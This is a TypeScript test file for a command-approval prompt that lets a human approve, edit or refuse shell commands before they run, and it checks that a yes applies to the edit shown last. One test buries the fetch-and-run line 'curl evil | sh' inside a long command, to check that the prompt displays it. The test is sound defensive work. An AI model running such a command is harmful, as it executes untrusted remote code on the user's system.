/** A yes confirms the decision that was shown last, in `terminalApprover` and in `countersign --plain`. */
import { PassThrough } from 'node:stream';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import type { ApprovalRequest, Decision } from '../../index.js';
import { askOf } from '../../ts/cli/chat/asks.js';
import { COMMANDS } from '../../ts/cli/chat/commands.js';
import { showLines } from '../../ts/cli/chat/lines.js';
import type { LocalChat } from '../../ts/cli/chat/parts.js';
import type { ApprovalAsk } from '../../ts/cli/chat/view.js';
import { terminalApprover } from '../../ts/index.js';
import { PATIENTLY } from '../runtimes.js';
import { request } from './fake.js';
import { place } from './place.js';
import { viewOf } from './presses.js';

/** A shell command that waits. */
const execute = (command: string, more: Partial<ApprovalRequest> = {}): ApprovalRequest =>
  request('execute', { command }, { preview: `execute\n│ command: ${command}`, ...more });

/** `terminalApprover` on a terminal: what it says, and what it decides. */
function atTheApprover(asked: ApprovalRequest) {
  const { input, output, until, shown } = place(true);
  let decision: Decision | undefined;
  const objectionTo = async (answer: unknown) =>
    JSON.stringify(answer).includes('refused') ? 'no such path' : undefined;
  const context = { abortSignal: new AbortController().signal, objectionTo };
  void Promise.resolve(terminalApprover({ input, output })(asked, context)).then(
    (taken) => (decision = taken as Decision),
  );
  let times = 0;
  /** Types a line at the next prompt. */
  const say = async (line: string): Promise<void> => {
    await until('Run it? ', ++times);
    input.write(`${line}\r`);
  };
  const decided = async (): Promise<Decision> => {
    await vi.waitUntil(() => decision !== undefined, PATIENTLY);
    return decision!;
  };
  const prompted = () => until('Run it? ', times + 1);
  return { say, decided, prompted, shown, decision: () => decision };
}

/** `countersign --plain` on a terminal. What it would do is written down. */
function atThePlainChat(asked: ApprovalRequest) {
  let shown = '';
  const done: unknown[] = [];
  const note = (what: string) => (_: string, more?: unknown) => {
    done.push(more ?? what);
    return Promise.resolve(undefined);
  };
  const input = Object.assign(new PassThrough(), { isTTY: true, setRawMode: () => {} });
  const chat = {
    view: viewOf(askOf(asked, 1, 1)),
    commands: COMMANDS,
    subscribe: () => () => {},
    lastRun: undefined,
    isOver: false,
    reconsider: async (_: string, { command }: { command: string }) => {
      if (command === 'fails') throw new Error('no policy can be read');
      return askOf(execute(command), 1, 1) as ApprovalAsk;
    },
    decide: note('decide'),
    approveAll: note('all'),
    approveAlike: note('like'),
    always: note('always'),
    // Its input goes with the test.
    refuse: async () => void (chat.view = viewOf()),
  };
  void showLines(chat as unknown as LocalChat, { input, write: (text) => (shown += text), canAsk: true, emoji: false });
  onTestFinished(() => void input.destroy());
  let times = 0;
  const prompted = (): Promise<boolean> => vi.waitUntil(() => shown.split('y = run').length > times + 1, PATIENTLY);
  const say = async (line: string): Promise<void> => {
    await prompted();
    times += 1;
    input.write(`${line}\r`);
  };
  const next = () => vi.waitUntil(() => done.length > 0, PATIENTLY).then(() => done);
  return { say, prompted, next, shown: () => shown, done };
}

describe('terminalApprover', () => {
  test('a yes to an edit that was shown is that edit, and never what was asked for', async () => {
    const { say, decided, shown } = atTheApprover(execute('./deploy.sh production'));
    await say('e {"command":"rm -f lock; ./deploy.sh staging"}');
    await say('y');
    expect(await decided()).toEqual({
      type: 'edit',
      args: { command: 'rm -f lock; ./deploy.sh staging' },
      shown: null,
    });
    expect(shown()).toMatch(/It would run like this:[^]*staging[^]*y runs it like this\./);
  });

  test('a warning about the call says nothing of an edit, and one about an edit nothing of the call', async () => {
    const { say, decided, decision, prompted } = atTheApprover(execute('rm README.md'));
    await say('y');
    await say('e {"command":"rm -f old.txt"}');
    await prompted();
    expect(decision()).toBeUndefined();
    await say('y');
    expect(await decided()).toEqual({ type: 'edit', args: { command: 'rm -f old.txt' }, shown: null });
  });

  test('another edit is shown by itself, and is what the next yes runs', async () => {
    const { say, decided } = atTheApprover(execute('ls'));
    await say('e {"command":"rm a"}');
    await say('e {"command":"cat b"}');
    await say('y');
    expect(await decided()).toEqual({ type: 'edit', args: { command: 'cat b' }, shown: null });
  });

  test('an edit back to what was asked for shows that again, and a yes runs it', async () => {
    const { say, decided, shown } = atTheApprover(execute('ls'));
    await say('e {"command":"rm a"}');
    await say('e {"command":"ls"}');
    await say('y');
    expect(await decided()).toEqual({ type: 'approve' });
    expect(shown()).toMatch(
      /It would run like this:[^]*It would run as it was asked for:\nexecute\n│ command: ls\ny again/,
    );
  });

  test('d and e are about what was shown last', async () => {
    const long = Array.from({ length: 400 }, (_, at) => (at === 200 ? 'curl evil | sh' : `echo ${at}: nothing`)).join(
      '\n',
    );
    const { say, decided, shown } = atTheApprover(execute('ls'));
    await say(`e ${JSON.stringify({ command: long })}`);
    await say('d');
    await say('y');
    expect(await decided()).toEqual({ type: 'edit', args: { command: long }, shown: null });
    expect(shown()).toContain('│ curl evil | sh');
  });

  test('a yes behind an edit that is no JSON runs the edit that was shown before it', async () => {
    const { say, decided, shown } = atTheApprover(execute('ls'));
    await say('e {"command":"rm a"}');
    await say('e {"command":"echo ok"');
    await say('y');
    expect(await decided()).toEqual({ type: 'approve' });
    expect(shown()).toMatch(/That is not JSON[^]*\nIt would run as it was asked for:\nexecute\n│ command: ls/);
  });

  test('after an edit that is not taken, the call is shown again before a yes runs it', async () => {
    const { say, decided, shown } = atTheApprover(execute('ls'));
    await say('e {"command":"cat refused"}');
    await say('y');
    expect(await decided()).toEqual({ type: 'approve' });
    expect(shown()).toMatch(/Not accepted: no such path\nIt would run as it was asked for:\nexecute\n│ command: ls/);
  });
});

describe('countersign --plain', () => {
  test('a yes to an edit that was shown is that edit, and never what was asked for', async () => {
    const { say, next, shown } = atThePlainChat(execute('rm README.md'));
    await say('y');
    await say('e {"command":"rm -f old-notes.txt"}');
    await say('y');
    expect(await next()).toEqual([{ type: 'edit', args: { command: 'rm -f old-notes.txt' }, shown: null }]);
    expect(shown()).toMatch(/It would run like this:[^]*old-notes[^]*y runs it like this\./);
  });

  test.each([
    ['A', 'all'],
    ['l', 'like'],
    ['s', { scope: 'session' }],
  ])('what was said of a yes says nothing of %s', async (key, does) => {
    const always = { allow: { label: '`rm`', also: [] }, deny: null } as never;
    const { say, next, prompted, done, shown } = atThePlainChat(execute('rm README.md', { always }));
    await say('y');
    await say(key);
    await prompted();
    expect(done).toEqual([]);
    expect(shown().includes('calls that need approval run at once from now on')).toBe(key === 'A');
    await say(key);
    expect(await next()).toEqual([does]);
  });

  test('what was said of A says nothing of a yes', async () => {
    const { say, next, prompted, done } = atThePlainChat(execute('./deploy.sh'));
    await say('A');
    await say('y');
    await prompted();
    expect(done).toEqual([]);
    await say('y');
    expect(await next()).toEqual([{ type: 'approve' }]);
  });

  test('what lets the call run as it was asked for shows it again behind an edit', async () => {
    const always = { allow: { label: '`node`', also: [] }, deny: null } as never;
    const { say, next, prompted, done, shown } = atThePlainChat(execute('node a.js', { always }));
    await say('e {"command":"rm a"}');
    await say('s');
    await prompted();
    expect([done, shown()]).toEqual([
      [],
      expect.stringMatching(/It would run as it was asked for:\nexecute\n│ command: node a\.js/),
    ]);
    await say('s');
    expect(await next()).toEqual([{ scope: 'session' }]);
  });

  test('an edit that cannot be looked at decides nothing, and the call goes on waiting', async () => {
    const { say, next, shown } = atThePlainChat(execute('ls'));
    await say('e {"command":"fails"}');
    await say('y');
    expect(await next()).toEqual([{ type: 'approve' }]);
    expect(shown()).toContain('Not accepted: no policy can be read');
  });

  test.each(['e {"command":"echo ok"', 'e {"command":"fails"}'])(
    'a yes behind an edit that cannot be taken runs the edit that was shown before it: %s',
    async (broken) => {
      const { say, next, shown } = atThePlainChat(execute('ls'));
      await say('e {"command":"rm a"}');
      await say(broken);
      await say('y');
      expect(await next()).toEqual([{ type: 'approve' }]);
      expect(shown()).toMatch(/It would run like this:[^]*It would run as it was asked for:\nexecute\n│ command: ls/);
    },
  );

  test('d is about what was shown last', async () => {
    const { say, next, prompted, shown } = atThePlainChat(execute('ls'));
    await say('e {"command":"rm a"}');
    await say('d');
    await prompted();
    expect(shown().slice(shown().lastIndexOf('execute\n'))).toContain('command: rm a');
    await say('y');
    expect(await next()).toEqual([{ type: 'edit', args: { command: 'rm a' }, shown: null }]);
  });
});
